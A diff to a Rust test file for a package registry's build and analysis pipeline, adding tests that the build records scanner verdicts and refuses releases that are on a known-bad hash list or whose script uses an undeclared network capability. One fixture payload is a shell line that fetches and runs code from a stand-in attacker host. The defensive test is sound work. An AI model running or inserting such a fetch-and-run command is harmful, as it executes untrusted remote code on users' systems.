@@ -247,10 +247,16 @@ fn truncated_lying_and_non_executable_binaries_are_findings_not_panics() {
         ("bin/linux-x86_64/truncated", "starts like a ELF binary but cannot be parsed"),
         ("bin/linux-x86_64/lying", "starts like a ELF binary but cannot be parsed"),
         ("bin/linux-x86_64/stub.dll", "starts like a PE binary but cannot be parsed"),
-        ("bin/linux-x86_64/entry", "is an entry point but neither an ELF, PE or Mach-O binary nor a script"),
     ] {
         assert!(errors.iter().any(|e| e.starts_with(&format!("{file}:")) && e.contains(says)), "{file}: {errors:#?}");
     }
+    // An entry point the analysis cannot read (a host-interpreted format, or junk) is
+    // said, not refused: the sandboxed run and review decide.
+    let warnings = warnings(&report);
+    assert!(
+        warnings.iter().any(|w| w.starts_with("bin/linux-x86_64/entry:") && w.contains("static analysis cannot tell what it does")),
+        "{warnings:#?}"
+    );
 }
 
 #[test]
@@ -518,5 +524,96 @@ fn sandbox_bounds_a_fork_bomb_a_disk_filler_and_a_program_that_never_exits() {
                 assert!(problems.iter().any(|p| p.contains("still running after 4 s")), "{problems:#?}");
             }
         }
+    }
+}
+
+mod build {
+    use std::path::Path;
+
+    use trellis_index::build::{Scope, build_registry};
+    use trellis_index::fixture::{self, ReleaseSpec};
+    use trellis_index::operator::{self, InitOptions};
+    use trellis_index::registry::{Expiry, Registry};
+    use trellis_schema::analysis::Verdict;
+    use trellis_schema::index::IndexDoc;
+
+    fn now() -> jiff::Timestamp {
+        "2026-11-01T00:00:00Z".parse().unwrap()
+    }
+
+    fn registry(payload: &[u8], scanners: serde_json::Value) -> tempfile::TempDir {
+        let dir = tempfile::tempdir().unwrap();
+        let options = InitOptions {
+            name: "Test Store".into(),
+            base_url: "http://127.0.0.1/".into(),
+            root_keys: 1,
+            root_threshold: 1,
+            bin_bits: 1,
+            publisher_bin_bits: trellis_index::registry::DEFAULT_PUBLISHER_BIN_BITS,
+            expiry: Expiry::default(),
+            now: now(),
+        };
+        operator::init(dir.path(), &options).unwrap();
+        let config_path = dir.path().join("trellis-registry.json");
+        let mut config: serde_json::Value = serde_json::from_slice(&std::fs::read(&config_path).unwrap()).unwrap();
+        config["scanners"] = scanners;
+        std::fs::write(&config_path, config.to_string()).unwrap();
+        let key = fixture::key(1);
+        fixture::add_publisher(dir.path(), "acme", &key).unwrap();
+        let mut spec = ReleaseSpec::new("acme.clock", "1.0.0");
+        spec.payload = payload.to_vec();
+        fixture::add_release(dir.path(), &spec, &key).unwrap();
+        dir
+    }
+
+    fn build(registry: &Path, site: &Path) -> Result<(), String> {
+        let registry = Registry::open(registry).map_err(|e| e.to_string())?;
+        build_registry(&registry, site, Scope::Full, now()).map(|_| ()).map_err(|e| e.to_string())
+    }
+
+    fn index_doc(site: &Path) -> IndexDoc {
+        let doc = walkdir::WalkDir::new(site.join("targets/index"))
+            .into_iter()
+            .map(|e| e.unwrap())
+            .find(|e| e.file_name().to_string_lossy().ends_with(".acme.clock.json"))
+            .unwrap();
+        serde_json::from_slice(&std::fs::read(doc.path()).unwrap()).unwrap()
+    }
+
+    #[test]
+    fn the_index_entry_carries_the_analysis_summary() {
+        let registry = registry(b"#!/bin/sh\necho tick\n", serde_json::json!({"known_bad": "known-bad.txt"}));
+        std::fs::write(registry.path().join("known-bad.txt"), "# none yet\n").unwrap();
+        let site = tempfile::tempdir().unwrap();
+        build(registry.path(), site.path()).unwrap();
+        let analysis = index_doc(site.path()).releases[0].analysis.clone().expect("an analysis summary");
+        assert!(analysis.map_version >= 1);
+        assert_eq!(analysis.scanners.len(), 1);
+        assert_eq!(
+            (analysis.scanners[0].scanner.as_str(), analysis.scanners[0].verdict),
+            ("hash_list", Verdict::Clean)
+        );
+    }
+
+    #[test]
+    fn build_refuses_a_release_whose_script_uses_an_undeclared_capability() {
+        let registry = registry(b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n", serde_json::json!({}));
+        let site = tempfile::tempdir().unwrap();
+        let error = build(registry.path(), site.path()).unwrap_err();
+        assert!(
+            error.contains("fails lint") && error.contains("bin/any/main.sh") && error.contains("network:internet"),
+            "{error}"
+        );
+    }
+
+    #[test]
+    fn build_refuses_a_release_on_the_known_bad_list_naming_the_entry() {
+        let payload = b"#!/bin/sh\necho a known sample\n";
+        let registry = registry(payload, serde_json::json!({"known_bad": "known-bad.txt"}));
+        let sha = trellis_schema::Sha256::of(payload).to_hex();
+        std::fs::write(registry.path().join("known-bad.txt"), format!("{sha} Acme.Sample.Bad\n")).unwrap();
+        let site = tempfile::tempdir().unwrap();
+        let error = build(registry.path(), site.path()).unwrap_err();
+        assert!(error.contains("bin/any/main.sh") && error.contains("Acme.Sample.Bad"), "{error}");
     }
 }
